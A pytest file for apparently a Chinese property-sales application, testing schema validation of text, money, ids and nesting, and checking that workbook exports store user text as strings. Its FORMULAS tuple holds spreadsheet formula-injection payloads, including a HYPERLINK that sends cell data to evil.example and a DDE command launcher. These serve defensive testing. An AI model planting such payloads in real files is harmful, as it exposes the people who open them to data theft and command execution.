"""Bad input never breaks a record: text, money, ids and nesting are checked once, at the
schema layer every contract schema shares (contracts.base.StrictSchema), and every workbook
writes user text as string cells."""
import io
from datetime import date
from decimal import Decimal

import pytest
from marshmallow import fields
from openpyxl import load_workbook

from contracts.base import MAX_ID, StrictSchema, input_errors, load, nesting_depth, text_problem
from contracts.errors import InvalidInput
from contracts.inventory import ImportUnitsSchema
from contracts.leads import ImportCallListSchema, RegisterVisitSchema
from contracts.transactions import TakeDepositSchema
from infra.workbooks import xlsx
from services.inventory.board import board_workbook
from services.transactions import finance

FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "@SUM(1)", "-2+3")
VISIT = {"office_id": 1, "name": "张三", "mobile": "13800138000"}
DEPOSIT = {"unit_id": 1, "customer_id": 1, "consultant_id": 1, "amount": "20000.00",
           "project_id": 1}


def refused(schema, payload) -> dict:
    with pytest.raises(InvalidInput) as error:
        load(schema, payload)
    return error.value.details


@pytest.mark.parametrize("bad, kind", [("\x00", "NUL"), ("\ud800", "lone surrogate"),
                                       ("\udfff", "lone surrogate"), ("\x07", "control"),
                                       ("\x1b[31m", "control"), ("\x7f", "control"),
                                       ("\x85", "control"), ("\ufffe", "control")])
def test_unstorable_characters_are_refused_naming_the_field(bad, kind):
    assert kind in text_problem(f"西工区{bad}中州路")
    errors = refused(RegisterVisitSchema(), {**VISIT, "address": f"西工区{bad}中州路"})
    assert list(errors) == ["address"] and kind in errors["address"][0]
    errors = refused(RegisterVisitSchema(), {**VISIT, "residence_area": bad})
    assert list(errors) == ["residence_area"]


def test_tabs_newlines_and_all_other_text_pass():
    text = "第一行\r\n第二行\t制表 emoji 😀 ①"
    assert text_problem(text) is None
    assert load(RegisterVisitSchema(), {**VISIT, "notes": text})["notes"] == text


def test_nested_values_keys_and_table_cells_are_checked_too():
    errors = refused(RegisterVisitSchema(), {**VISIT, "intended_product": {"layout\x00": "x"}})
    assert list(errors) == ["intended_product"] and "intended_product.layout\\x00" in \
        errors["intended_product"][0]
    errors = refused(RegisterVisitSchema(), {**VISIT, "other_mobiles": ["139\ud80000"]})
    assert list(errors) == ["other_mobiles"] and "other_mobiles[0]" in errors["other_mobiles"][0]
    call_list = {"source": "purchased", "file_name": "a.csv", "imported_by": "m",
                 "header": ["姓名", "电话"], "rows": [["张三", "13800138000"], ["李\x01四", "1"]]}
    errors = refused(ImportCallListSchema(), call_list)
    assert list(errors) == ["rows"] and "rows[1][0]" in errors["rows"][0]
    units = {"project_id": 1, "imported_by": "m", "header": ["号\x00楼"], "rows": []}
    assert list(refused(ImportUnitsSchema(), units)) == ["header"]


@pytest.mark.parametrize("amount", ["1e30", "1E3", "NaN", "nan", "Infinity", "-Infinity",
                                    "1000000000000", "1000000000000.00", "99999999999999999999",
                                    " 5", "0x10", "1_000", "5."])
def test_money_beyond_the_column_or_not_plain_yuan_is_refused(amount):
    assert list(refused(TakeDepositSchema(), {**DEPOSIT, "amount": amount})) == ["amount"]


def test_the_largest_amount_the_column_holds_is_accepted():
    assert load(TakeDepositSchema(), {**DEPOSIT, "amount": "999999999999.99"})["amount"] == \
        Decimal("999999999999.99")
    for area in ("1e30", "100000000", "1e400"):
        assert list(refused(TakeDepositSchema(), {**DEPOSIT, "building_area": area})) == \
            ["building_area"]


def test_ids_beyond_the_database_integer_are_refused():
    assert load(TakeDepositSchema(), {**DEPOSIT, "unit_id": MAX_ID})["unit_id"] == MAX_ID
    for too_big in (MAX_ID + 1, 2**63, 10**400):
        assert list(refused(TakeDepositSchema(), {**DEPOSIT, "unit_id": too_big})) == ["unit_id"]
    errors = input_errors({"profile": {"answers": [2**64]}})
    assert list(errors) == ["profile"]

    class Query(StrictSchema):  # a query string's integer arrives as text
        page = fields.Integer()

    assert list(refused(Query(), {"page": "99999999999"})) == ["page"]
    assert load(Query(), {"page": "2147483647"}) == {"page": MAX_ID}


def test_deep_nesting_is_refused_without_exhausting_the_stack():
    deep = "x"
    for _ in range(100_000):
        deep = [deep]
    assert nesting_depth(deep) == 100_000
    errors = refused(RegisterVisitSchema(), {**VISIT, "notes": deep})
    assert list(errors) == ["notes"] and "nested more than" in errors["notes"][0]


def cells_of(content: bytes, sheet=None):
    book = load_workbook(io.BytesIO(content))
    return [cell for row in (book[sheet] if sheet else book.worksheets[0]).iter_rows()
            for cell in row]


def assert_text_cells(cells, texts):
    found = {cell.value: cell.data_type for cell in cells if cell.value in texts}
    assert found == {text: "s" for text in texts}, found


def test_the_workbook_helper_writes_text_as_string_cells_never_formulas():
    content = xlsx([("名单", [["姓名", "金额"], *[[name, Decimal("12.50")] for name in FORMULAS],
                             ["含\x00控制\x1b字符", None]])])
    cells = cells_of(content)
    assert_text_cells(cells, FORMULAS)
    assert "含控制字符" in [cell.value for cell in cells]
    money = [cell for cell in cells if cell.value == 12.5]
    assert money and all(cell.number_format == "#,##0.00" for cell in money)


def test_the_board_export_writes_layouts_as_text():
    board = {"columns": ["id", "building", "entrance", "floor", "number", "layout",
                         "building_area", "list_unit_price", "list_price", "status",
                         "consultant_id"],
             "units": [[n, "=1+1", "1", 1, f"10{n}", formula, "89.50", None, "1200000.00",
                        "available", None] for n, formula in enumerate(FORMULAS)],
             "buildings": [{"building": "=1+1", "unit_count": 5, "by_status": {"available": 5}}]}
    content = board_workbook(board)
    assert_text_cells(cells_of(content, "销控表"), FORMULAS + ("=1+1",))
    assert_text_cells(cells_of(content, "汇总"), ("=1+1",))


def test_the_reconciliation_export_writes_reasons_as_text():
    report = {"weeks": [], "differences": [],
              "receipts": [{"receipt_number": n, "kind": "deposit", "issued_on": date(2026, 11, 2),
                            "amount": Decimal("1.00"), "status": "void",
                            "replaced_by_number": None, "void_reason": formula,
                            "bank_reference": formula, "confirmed_amount": None}
                           for n, formula in enumerate(FORMULAS)]}
    assert_text_cells(cells_of(finance.workbook(report), "receipts"), FORMULAS)


def test_a_project_of_too_many_rooms_is_refused_before_any_room_is_validated():
    from contracts.inventory import MAX_IMPORT_ROWS, CreateProjectSchema
    units = [{"number": str(n), "floor": 1, "building_area": "89.50"} for n in range(5000)]
    buildings = [{"name": str(b), "units": units} for b in range(MAX_IMPORT_ROWS // 5000 + 1)]
    errors = refused(CreateProjectSchema(), {"code": "p-1", "name": "园", "buildings": buildings})
    assert list(errors) == ["buildings"] and "at most" in errors["buildings"][0]
